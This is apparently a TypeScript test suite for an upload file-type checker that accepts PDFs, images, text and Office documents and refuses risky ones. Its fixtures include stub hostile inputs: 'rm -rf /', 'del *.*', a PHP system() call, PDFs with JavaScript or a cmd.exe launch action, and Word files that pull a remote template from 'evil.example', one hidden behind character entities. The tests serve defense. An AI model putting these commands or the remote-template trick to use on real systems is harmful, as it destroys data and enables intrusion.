import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { strToU8, zipSync } from 'fflate'
import { runs, seed } from '../../../checks/runs.ts'
import { BEGINNING, kinds, reasons, seeming, type Kind, type Plain, type Reason } from './content.ts'
import { lookThrough } from './look.ts'

function plainOf(bytes: Uint8Array, piece = 65_536): Plain {
  return {
    length: bytes.length,
    read: async (position, length) => bytes.subarray(position, position + length),
    pieces: async function* () {
      for (let at = 0; at < bytes.length; at += piece) yield bytes.subarray(at, at + piece)
    },
  }
}

async function found(bytes: Uint8Array | string, name: string, piece?: number): Promise<Kind | Reason> {
  const file = Buffer.from(bytes as Uint8Array)
  const seen: Uint8Array[] = []
  const looked = await lookThrough(plainOf(file, piece), name, (part) => seen.push(part))
  assert.ok(Buffer.concat(seen).equals(file), 'every byte is seen once')
  return 'kind' in looked ? looked.kind : looked.refused
}

/** What its beginning alone shows. */
async function early(bytes: Uint8Array | string): Promise<string> {
  const file = Buffer.from(bytes as Uint8Array)
  const seems = await seeming(file.subarray(0, BEGINNING), file.length <= BEGINNING)
  return 'office' in seems ? 'office' : 'kind' in seems ? seems.kind : seems.refused
}

const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
const jpeg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(500, 7),
  Buffer.from('ffd9', 'hex'),
])
const pdf = (...objects: string[]) => `%PDF-1.7\n%\u00e2\u00e3\n${objects.join('\n')}\ntrailer << /Root 1 0 R >>\n%%EOF\n`
const page = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj'
/** Objects packed together and compressed, as newer programs write them. */
const packed = (inside: string, dictionary = '/Filter /FlateDecode') =>
  `5 0 obj << /Type /ObjStm /N 1 /First 4 ${dictionary} >> stream\n${deflateSync(Buffer.from(inside)).toString('latin1')}\nendstream endobj`
const pdfBytes = (...objects: string[]) => Buffer.from(pdf(...objects), 'latin1')

const main = {
  word: 'wordprocessingml.document',
  excel: 'spreadsheetml.sheet',
  powerpoint: 'presentationml.presentation',
}
const typesOf = (type: string, more = '') =>
  `<?xml version="1.0"?><Types><Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/>${more}</Types>`
type Parts = Record<string, string | Uint8Array>
function office(type: string, more: Parts = {}, types = typesOf(type)): Buffer {
  const parts = { '[Content_Types].xml': types, '_rels/.rels': '<Relationships/>', 'word/document.xml': '<w:document/>', ...more }
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]))),
  )
}
const relation = (kind: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`

const word = office(main.word)
const taken: [string, Uint8Array | string, string, Kind][] = [
  ['a PDF', pdfBytes(page), 'a.pdf', 'application/pdf'],
  ['a PDF with packed objects', pdfBytes(page, packed('2 0 <</Type /Pages>>')), 'a.PDF', 'application/pdf'],
  ['a PNG', png, 'a.png', 'image/png'],
  ['a JPEG', jpeg, 'photo.JPEG', 'image/jpeg'],
  ['text', 'All of it went at 02:00.\r\n\tThen nothing.', 'log.txt', 'text/plain'],
  ['text with a byte order mark', '\ufeffGrüße', 'a.txt', 'text/plain'],
  ['a log that begins like a tag but is none', '<34>Oct 11 22:14:15 mymachine su: failed', 'syslog.log', 'text/plain'],
  ['text that begins like a bitmap', 'BM is how this begins, and it is a sentence.', 'notes.txt', 'text/plain'],
  ['a CSV', 'name,when\n"a","b"\n', 'a.csv', 'text/plain'],
  ['a long text', 'ä'.repeat(200_000), 'a.txt', 'text/plain'],
  ['a Word document', word, 'a.docx', Object.keys(kinds)[4] as Kind],
  [
    'an Excel sheet with printer settings',
    office(main.excel, { 'xl/printerSettings/printerSettings1.bin': 'x' }),
    'a.xlsx',
    Object.keys(kinds)[5] as Kind,
  ],
  ['a PowerPoint file', office(main.powerpoint), 'a.pptx', Object.keys(kinds)[6] as Kind],
  [
    'a document with a sheet for its chart',
    office(main.word, { 'word/embeddings/Sheet1.xlsx': 'x' }),
    'a.docx',
    Object.keys(kinds)[4] as Kind,
  ],
  [
    'a document made from a template of its own machine',
    office(main.word, { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm') }),
    'a.docx',
    Object.keys(kinds)[4] as Kind,
  ],
  [
    'a document with a link',
    office(main.word, { 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.org') }),
    'a.docx',
    Object.keys(kinds)[4] as Kind,
  ],
]

for (const [what, bytes, name, kind] of taken)
  test(`${what} is taken`, async () => {
    assert.equal(await found(bytes, name), kind)
    assert.equal(await found(bytes, name, 7), kind, 'in small pieces')
    assert.ok([kind, 'office'].includes(await early(bytes)))
  })

const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)])
const exe = Buffer.concat([Buffer.from('MZ\u0090\0\u0003\0\0\0', 'latin1'), Buffer.alloc(200)])
const tar = Buffer.alloc(1024)
tar.write('a.txt')
tar.write('ustar\u000000', 257, 'latin1')
const encryptedZip = Buffer.from(word)
encryptedZip.writeUInt16LE(1, 6)
const renamed = Buffer.from(word)
renamed.write('X', renamed.indexOf('word/document.xml'))

/** `early`: whether the first bytes already show it. */
const refusedThere: [string, Uint8Array | string, string, Reason, 'early' | 'late'][] = [
  ['a Windows program', exe, 'a.pdf', 'executable', 'early'],
  ['a Linux program', elf, 'a.txt', 'executable', 'early'],
  ['a shell script', '#!/bin/sh\nrm -rf /\n', 'a.txt', 'script', 'early'],
  ['a batch file', '@echo off\r\ndel *.*', 'a.txt', 'script', 'early'],
  ['PHP', '<?php system("id");', 'a.txt', 'markup', 'early'],
  ['PostScript', '%!PS-Adobe-3.0\n', 'a.txt', 'script', 'early'],
  ['a ZIP', zipSync({ 'a.txt': strToU8('a') }), 'a.docx', 'archive', 'early'],
  ['a gzip', Buffer.concat([Buffer.from('1f8b0800', 'hex'), Buffer.alloc(30)]), 'a.txt', 'archive', 'early'],
  ['a 7z', Buffer.concat([Buffer.from('377abcaf271c', 'hex'), Buffer.alloc(30)]), 'a.txt', 'archive', 'early'],
  ['a RAR', Buffer.concat([Buffer.from('526172211a0700', 'hex'), Buffer.alloc(30)]), 'a.txt', 'archive', 'early'],
  ['a tar', tar, 'a.txt', 'archive', 'early'],
  ['HTML', '\n  <!DOCTYPE html><script>1</script>', 'a.txt', 'markup', 'early'],
  ['HTML without a doctype', '<html>', 'a.txt', 'markup', 'early'],
  ['SVG', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'a.png', 'markup', 'early'],
  ['XML', '<?xml version="1.0"?><a/>', 'a.txt', 'markup', 'early'],
  ['an email', 'Received: from a by b\r\nFrom: a@example.org\r\n\r\nHello', 'a.txt', 'email', 'early'],
  ['an email that begins otherwise', 'From: a@example.org\nMIME-Version: 1.0\n\nHello', 'a.txt', 'email', 'early'],
  ['RTF', '{\\rtf1 hello}', 'a.txt', 'unknown', 'early'],
  [
    'an older Word file, or a locked newer one',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'a.docx',
    'old-office',
    'early',
  ],
  ['a GIF', Buffer.from('GIF89a\u0001\0\u0001\0\u0080\0\0', 'latin1'), 'a.png', 'unknown', 'early'],
  ['bytes of no kind', Buffer.from([1, 2, 3, 0, 255, 254, 0]), 'a.txt', 'not-utf-8', 'early'],
  ['text in Latin-1', Buffer.from('Gr\u00fc\u00dfe', 'latin1'), 'a.txt', 'not-utf-8', 'early'],
  ['text in UTF-16', Buffer.from('\ufeffHello there', 'utf16le'), 'a.txt', 'not-utf-8', 'early'],
  ['text that ends in the middle of a character', Buffer.concat([Buffer.from('a'), Buffer.from([0xc3])]), 'a.txt', 'not-utf-8', 'early'],
  ['text whose end is not text', Buffer.concat([Buffer.alloc(100_000, 'a'), Buffer.from([0])]), 'a.txt', 'not-utf-8', 'late'],
  ['a PDF with a script', pdfBytes(page, '<< /S /JavaScript /JS (app.alert(1)) >>'), 'a.pdf', 'active-pdf', 'late'],
  ['a PDF with a script under an escaped name', pdfBytes(page, '<< /S /J#61vaScr#69pt >>'), 'a.pdf', 'active-pdf', 'late'],
  ['a PDF that starts a program', pdfBytes('<</S/Launch/F(cmd.exe)>>'), 'a.pdf', 'active-pdf', 'late'],
  ['a PDF with a file in it', pdfBytes('<</Type/EmbeddedFile>>'), 'a.pdf', 'active-pdf', 'late'],
  ['a PDF with an XFA form', pdfBytes('<</XFA 3 0 R>>'), 'a.pdf', 'active-pdf', 'late'],
  ['a PDF with a script among packed objects', pdfBytes(page, packed('2 0 <</S /JavaScript>>')), 'a.pdf', 'active-pdf', 'late'],
  ['the same under an escaped type', pdfBytes(packed('2 0 <</S /Launch>>').replace('/ObjStm', '/Obj#53tm')), 'a.pdf', 'active-pdf', 'late'],
  [
    'a PDF packed in a way that is not read',
    pdfBytes(packed('2 0 <</S /Launch>>', '/Filter [/ASCIIHexDecode /FlateDecode]')),
    'a.pdf',
    'unreadable',
    'late',
  ],
  [
    'a PDF whose packed objects do not unpack',
    pdfBytes('5 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nnot deflate\nendstream'),
    'a.pdf',
    'unreadable',
    'late',
  ],
  ['a locked PDF', pdfBytes(page, 'trailer << /Encrypt 9 0 R >>'), 'a.pdf', 'encrypted', 'late'],
  ['a PDF that is an archive too', Buffer.concat([pdfBytes(page), zipSync({ 'a.txt': strToU8('a') })]), 'a.pdf', 'archive', 'late'],
  ['a picture that is an archive too', Buffer.concat([png, zipSync({ 'a.txt': strToU8('a') })]), 'a.png', 'archive', 'late'],
  ['a PDF under the name of a picture', pdfBytes(page), 'a.png', 'ending-differs', 'late'],
  ['text under the name of a script', 'hello', 'a.js', 'ending-differs', 'late'],
  ['a Word document under the name of a sheet', word, 'a.xlsx', 'ending-differs', 'late'],
  ['a document with macros', office(main.word, { 'word/vbaProject.bin': 'x' }), 'a.docx', 'macros', 'late'],
  [
    'a document of the kind with macros',
    office(
      main.word,
      {},
      typesOf(main.word, '<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    ),
    'a.docx',
    'macros',
    'late',
  ],
  ['a sheet with old macros', office(main.excel, { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'a.xlsx', 'macros', 'late'],
  ['a document with a program in it', office(main.word, { 'word/embeddings/oleObject1.bin': 'x' }), 'a.docx', 'embedded', 'late'],
  ['a document with a control', office(main.word, { 'word/activeX/activeX1.xml': '<x/>' }), 'a.docx', 'embedded', 'late'],
  [
    'a document that loads its template from afar',
    office(main.word, { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }),
    'a.docx',
    'remote-template',
    'late',
  ],
  [
    'the same over a file share',
    office(main.word, { 'word/_rels/settings.xml.rels': relation('attachedTemplate', '\\\\evil.example\\t.dotm') }),
    'a.docx',
    'remote-template',
    'late',
  ],
  [
    'the same, its letters written as numbers',
    office(main.word, { 'word/_rels/settings.xml.rels': relation('&#97;ttachedTemplate', 'https&#x3a;//evil.example/t.dotm') }),
    'a.docx',
    'remote-template',
    'late',
  ],
  ['a document locked with a password', encryptedZip, 'a.docx', 'encrypted', 'early'],
  ['a document that names its parts twice over', renamed, 'a.docx', 'unreadable', 'late'],
  ['a document cut short', word.subarray(0, word.length - 30), 'a.docx', 'unreadable', 'late'],
  [
    'a document with something before it',
    Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(26), word]),
    'a.docx',
    'archive',
    'early',
  ],
  [
    'an archive that begins as a document',
    Buffer.from(zipSync({ 'word/x': strToU8('x'), 'b.txt': strToU8('b') })),
    'a.docx',
    'archive',
    'late',
  ],
  ['a template', office('wordprocessingml.template'), 'a.docx', 'unknown', 'late'],
  ['two documents in one', office(main.word, {}, typesOf(main.word) + typesOf(main.excel)), 'a.docx', 'unknown', 'late'],
]

for (const [what, bytes, name, reason, when] of refusedThere) {
  const why = reasons[reason]
  test(`${what} is refused: ${why}`, async () => {
    assert.equal(await found(bytes, name), reason)
    assert.equal(await found(bytes, name, 13), reason, 'in small pieces')
    if (when === 'early') assert.equal(await early(bytes), reason)
  })
}

test('whatever bytes come, it is a kind or a reason, and never a fault', async () => {
  const starts = fc.constantFrom('', '%PDF-', 'PK\u0003\u0004', '\u0089PNG\r\n\u001a\n', '{', 'From: ')
  await fc.assert(
    fc.asyncProperty(starts, fc.uint8Array({ maxLength: 3000 }), fc.constantFrom('a.pdf', 'a.docx', 'a.txt'), async (start, rest, name) => {
      const answer = await found(Buffer.concat([Buffer.from(start, 'latin1'), rest, Buffer.from([1])]), name)
      assert.ok(answer in kinds || answer in reasons)
    }),
    { numRuns: runs(100), seed },
  )
})

test('a bit flipped anywhere in a document makes it no more than refused', async () => {
  await fc.assert(
    fc.asyncProperty(fc.nat(word.length - 1), fc.nat(7), async (at, bit) => {
      const flipped = Buffer.from(word)
      flipped[at]! ^= 1 << bit
      const answer = await found(flipped, 'a.docx')
      assert.ok(answer in kinds || answer in reasons)
    }),
    { numRuns: runs(100), seed },
  )
})
